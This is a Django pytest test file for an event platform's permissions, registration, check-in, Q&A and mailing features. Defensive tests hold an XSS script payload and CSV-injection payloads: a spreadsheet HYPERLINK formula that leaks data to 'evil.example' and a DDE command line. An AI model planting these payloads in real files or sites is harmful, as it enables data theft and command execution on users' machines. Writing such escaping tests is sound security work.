"""Every page of a live event × every role; registration through the page; one query-count
test for the event list."""

import json
import re

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from events import services
from events.forms import answer_prefix
from events.models import EventSession, JuryMember, Registration
from forums import services as forum_services
from home.services import synchronise_languages
from tests.mail import deliver_queued_mail, queued_mail

from .conftest import make_event

pytestmark = pytest.mark.integration

ROLES = ["anonymous", "visitor", "member", "reviewer", "coordinator", "other_coordinator"]


def route(event, name, *args):
    return event.url + event.reverse_subpage(name, args=args)


# view name → role → expected status (302 = sent to log in)
GRID = {
    "page": dict.fromkeys(ROLES, 200),
    "live": dict.fromkeys(ROLES, 200),
    "screen": dict.fromkeys(ROLES, 200),
    "console": {
        "anonymous": 302,
        "visitor": 403,
        "member": 403,
        "reviewer": 403,
        "coordinator": 200,
        "other_coordinator": 403,
    },
    "check_in": {
        "anonymous": 302,
        "visitor": 403,
        "member": 403,
        "reviewer": 403,
        "coordinator": 200,
        "other_coordinator": 403,
    },
    "attendees_csv": {
        "anonymous": 403,
        "visitor": 403,
        "member": 403,
        "reviewer": 403,
        "coordinator": 200,
        "other_coordinator": 403,
    },
    # `member` is registered; nobody else has a ticket.
    "ticket": {
        "anonymous": 302,
        "visitor": 404,
        "member": 200,
        "reviewer": 404,
        "coordinator": 404,
        "other_coordinator": 404,
    },
}


@pytest.mark.parametrize("role", ROLES)
@pytest.mark.parametrize("view", list(GRID))
def test_permission_grid(users, live_event, talk, client_for, view, role):
    services.register(live_event, actor=users["member"])
    client = client_for(users[role])
    if view == "page":
        url = live_event.url
    elif view in ("live", "screen"):
        url = route(live_event, view, talk.pk)
    else:
        url = route(live_event, view)
    response = client.get(url)
    assert response.status_code == GRID[view][role]


def test_jury_page_only_for_jurors_of_a_forum_day(users, live_event, client_for):
    JuryMember.objects.create(event=live_event, user=users["reviewer"])
    # A seminar has no rubric: even its jurors have nothing to score.
    assert client_for(users["reviewer"]).get(route(live_event, "jury")).status_code == 403
    assert client_for(users["member"]).get(route(live_event, "jury")).status_code == 403


def test_unknown_session_is_404(users, live_event, talk, client):
    assert client.get(route(live_event, "live", talk.pk + 99)).status_code == 404


def test_the_shared_sessions_of_a_live_page_follow_edits(users, live_event, talk, client_for):
    """The sessions a live page lists are read once per content change, for every reader."""
    client = client_for(users["member"])
    url = route(live_event, "live", talk.pk)
    assert "탄소섬유 시장 전망" in client.get(url).content.decode()
    talk.title = "탄소섬유 시장 전망 2027"
    talk.save()
    assert "탄소섬유 시장 전망 2027" in client.get(url).content.decode()
    talk.delete()
    assert client.get(url).status_code == 404


def test_register_and_cancel_through_the_page(users, live_event, client_for):
    client = client_for(users["member"])
    response = client.post(route(live_event, "register"))
    assert response.status_code == 302 and response.url.endswith("/ticket/")
    ticket = client.get(response.url)
    code = Registration.objects.get(user=users["member"]).code
    assert code in ticket.content.decode()
    client.post(route(live_event, "register"), {"cancel": "1"})
    assert Registration.objects.get(user=users["member"]).status == "cancelled"


def test_check_in_page_and_csv(users, live_event, client_for):
    registration = services.register(live_event, actor=users["member"])
    client = client_for(users["coordinator"])
    response = client.post(route(live_event, "check_in"), {"code": "WRONG222"})
    assert "이 코드로 신청한 참가자가 없습니다." in response.content.decode()
    response = client.post(route(live_event, "check_in"), {"code": registration.code})
    assert "이서연" in response.content.decode()
    csv_text = client.get(route(live_event, "attendees_csv")).content.decode("utf-8-sig")
    assert "이서연" in csv_text and registration.code in csv_text


def test_question_markup_is_never_rendered_by_the_server(users, live_event, talk, client):
    # Questions reach pages only through the socket (rendered with textContent), so the page
    # HTML holds no question text at all.
    services.ask_question(talk, actor=users["member"], body="<script>alert(1)</script>")
    body = client.get(route(live_event, "live", talk.pk)).content.decode()
    assert "<script>alert(1)" not in body


def test_event_index_query_count_does_not_grow(uncached_pages, event_index, site_tree, client):
    make_event(event_index, site_tree, slug="one")
    client.get(event_index.url)
    with CaptureQueriesContext(connection) as few:
        client.get(event_index.url)
    for number in range(5):
        make_event(event_index, site_tree, slug=f"more-{number}")
    client.get(event_index.url)  # the shared header fragments are rebuilt after a change
    with CaptureQueriesContext(connection) as many:
        response = client.get(event_index.url)
    assert response.status_code == 200
    assert len(many) <= len(few) + 2


# --- written answers to a pitch's open questions ----------------------------------------------


@pytest.fixture
def pitch_question(users, forum_day):
    """An anonymous question left open on the forum day's pitch; `reviewer` reviews the pitch."""
    event, pitch = forum_day
    services.import_programme(event, actor=users["coordinator"])
    session = EventSession.objects.get(event=event, pitch=pitch)
    question = services.ask_question(
        session, actor=users["other_member"], body="양산 단가는?", anonymous=True
    )
    services.moderate_question(question, actor=users["coordinator"], action="approve")
    forum_services.assign_reviewer(pitch, actor=users["coordinator"], reviewer=users["reviewer"])
    return pitch, question


def answer_url(question):
    return reverse("events:answer_question", args=[question.pk])


# role → status of posting an answer (302 = answered, or sent to log in when anonymous)
ANSWER_GRID = {
    "anonymous": 302,
    "visitor": 404,
    "member": 302,  # the pitcher
    "colleague": 302,  # works for the pitching organisation
    "other_member": 404,
    "reviewer": 403,  # reads the questions, does not answer for the pitcher
    "coordinator": 403,  # replies live from the console, not here
    "other_coordinator": 404,
}


@pytest.mark.parametrize("role", list(ANSWER_GRID))
def test_answer_permission_grid(users, pitch_question, client_for, role):
    _pitch, question = pitch_question
    field = f"{answer_prefix(question)}-reply"
    response = client_for(users[role]).post(answer_url(question), {field: "개당 3만 원"})
    assert response.status_code == ANSWER_GRID[role]
    question.refresh_from_db()
    answered_here = role in ("member", "colleague")
    assert question.answered is answered_here
    assert (question.reply == "개당 3만 원") is answered_here
    if role == "anonymous":
        assert "/accounts/login/" in response.url


def test_pitcher_answers_on_the_pitch_page_and_reviewers_read_it(users, pitch_question, client_for):
    pitch, question = pitch_question
    # Neither a hidden question nor one still waiting for approval reaches the pitch page.
    hidden = services.ask_question(question.session, actor=users["other_member"], body="숨긴 질문")
    services.moderate_question(hidden, actor=users["coordinator"], action="hide")
    services.ask_question(question.session, actor=users["other_member"], body="대기 질문")
    page = reverse("forums:pitch_detail", args=[pitch.pk])
    field = f"{answer_prefix(question)}-reply"
    pitcher = client_for(users["member"])

    body = pitcher.get(page).content.decode()
    assert "양산 단가는?" in body and "숨긴 질문" not in body and "대기 질문" not in body
    assert "박도윤" not in body  # asked anonymously: hidden from the pitcher
    assert f'name="{field}"' in body

    response = pitcher.post(answer_url(question), {field: "   "}, follow=True)
    assert "먼저 내용을 써 주세요." in response.content.decode()
    question.refresh_from_db()
    assert not question.answered

    response = pitcher.post(answer_url(question), {field: "개당 3만 원입니다."}, follow=True)
    content = response.content.decode()
    assert "답변을 게시했습니다." in content and "개당 3만 원입니다." in content
    assert f'name="{field}"' not in content

    response = pitcher.post(answer_url(question), {field: "고칠게요"}, follow=True)
    assert "이미 답변된 질문입니다." in response.content.decode()
    question.refresh_from_db()
    assert question.reply == "개당 3만 원입니다." and question.replied_by == users["member"]

    reviewer_page = client_for(users["reviewer"]).get(page).content.decode()
    assert "양산 단가는?" in reviewer_page and "개당 3만 원입니다." in reviewer_page
    assert "<textarea" not in reviewer_page and "박도윤" not in reviewer_page
    # Moderators always know who asked.
    assert "박도윤" in client_for(users["coordinator"]).get(page).content.decode()


def test_pitch_page_query_count_does_not_grow_with_questions(users, pitch_question, client_for):
    pitch, question = pitch_question
    client = client_for(users["member"])
    page = reverse("forums:pitch_detail", args=[pitch.pk])
    client.get(page)
    with CaptureQueriesContext(connection) as few:
        client.get(page)
    for number in range(5):
        asked = services.ask_question(
            question.session, actor=users["colleague"], body=f"질문 {number}"
        )
        services.moderate_question(asked, actor=users["coordinator"], action="approve")
    with CaptureQueriesContext(connection) as many:
        response = client.get(page)
    assert response.content.decode().count('class="pitch-question"') == 6
    assert len(many) == len(few)


def test_attendees_csv_cells_never_become_formulas(users, live_event, client_for):
    import csv
    import io

    hostile = '=HYPERLINK("http://evil.example/?x="&A2,"click")'
    profile = users["member"].profile
    profile.full_name = hostile
    profile.save(update_fields=["full_name"])
    organisation = profile.organisation
    organisation.name = "+cmd|' /C calc'!A0"
    organisation.save(update_fields=["name"])
    services.register(live_event, actor=users["member"])
    text = client_for(users["coordinator"]).get(route(live_event, "attendees_csv"))
    rows = list(csv.reader(io.StringIO(text.content.decode("utf-8-sig"))))
    assert rows[1][0] == "'" + hostile
    assert rows[1][1] == "'+cmd|' /C calc'!A0"
    assert not any(
        cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row
    )


@pytest.mark.django_db
@pytest.mark.parametrize("role", ROLES)
def test_only_the_events_coordinators_can_send_to_registrants(users, live_event, client_for, role):
    services.register(live_event, actor=users["member"])
    response = client_for(users[role]).post(
        route(live_event, "message_registrants"), {"subject": "안내", "body": "주차 안내"}
    )
    # One queued mail is the member's ticket; the coordinator's message adds one.
    assert (response.status_code, queued_mail().count()) == (
        (302, 2) if role == "coordinator" else (302 if role == "anonymous" else 403, 1)
    )
    if role == "anonymous":
        assert "/accounts/login/" in response["Location"]


@pytest.mark.django_db
def test_a_bulk_send_to_600_registrants_is_queued_not_sent(users, live_event, client_for, settings):
    from django.contrib.auth import get_user_model
    from django.core import mail

    # The mail server is down: the coordinator's request does not care.
    settings.EMAIL_BACKEND = "tests.notifications.failing_backend.FailingBackend"
    people = get_user_model().objects.bulk_create(
        get_user_model()(username=f"guest{n}", email=f"guest{n}@buyer.example") for n in range(600)
    )
    Registration.objects.bulk_create(
        Registration(event=live_event, user=person, status=Registration.Status.REGISTERED)
        for person in people
    )
    response = client_for(users["coordinator"]).post(
        route(live_event, "message_registrants"),
        {"subject": "행사장 변경", "body": "3층 대회의실로 바뀌었습니다."},
        follow=True,
    )
    assert response.status_code == 200
    assert "600" in response.content.decode()
    assert queued_mail().count() == 600 and mail.outbox == []
    settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"
    assert deliver_queued_mail() == 600
    assert len(mail.outbox) == 600
    assert {message.to[0] for message in mail.outbox} == {person.email for person in people}
    assert (
        mail.outbox[0].subject.endswith("행사장 변경")
        and live_event.title in mail.outbox[0].subject
    )


@pytest.mark.django_db
def test_a_message_needs_a_subject_and_text(users, live_event, client_for):
    response = client_for(users["coordinator"]).post(
        route(live_event, "message_registrants"), {"subject": " ", "body": ""}
    )
    assert response.status_code == 200
    assert response.context["form"].errors.keys() == {"subject", "body"}
    assert not queued_mail().exists()


@pytest.mark.django_db
def test_the_live_page_tells_signed_in_people_who_may_take_part(
    users, live_event, talk, client_for
):
    live_event.qa_participants = live_event.Participants.REGISTERED
    live_event.save_revision().publish()
    page = client_for(users["other_member"]).get(route(live_event, "live", talk.pk))
    text = page.content.decode()
    assert 'id="ask-form"' not in text
    assert "등록한 참가자가 여기서 질문" in text and "#registration-heading" in text
    services.register(live_event, actor=users["other_member"])
    again = client_for(users["other_member"]).get(route(live_event, "live", talk.pk))
    assert 'id="ask-form"' in again.content.decode()


@pytest.mark.django_db
def test_poll_states_have_words_of_their_own_and_counts_agree(users, live_event, talk, client_for):
    # Polls once read "임시저장"/"모집 중" (a request's draft, a call for pitches) and "1 answers".
    page = client_for(users["other_member"]).get(route(live_event, "live", talk.pk))
    strings = json.loads(re.search(r'id="live-config"[^>]*>(.*?)</script>', page.text).group(1))[
        "strings"
    ]
    assert (strings["poll_draft"], strings["poll_open"], strings["poll_closed"]) == (
        "시작 전",
        "응답 받는 중",
        "마감",
    )
    synchronise_languages()
    english_url = route(live_event, "live", talk.pk).replace("/ko/", "/en/", 1)
    english = client_for(users["other_member"]).get(english_url)
    strings = json.loads(re.search(r'id="live-config"[^>]*>(.*?)</script>', english.text).group(1))[
        "strings"
    ]
    assert strings["answer_count"] == {"one": "%(count)s answer", "other": "%(count)s answers"}
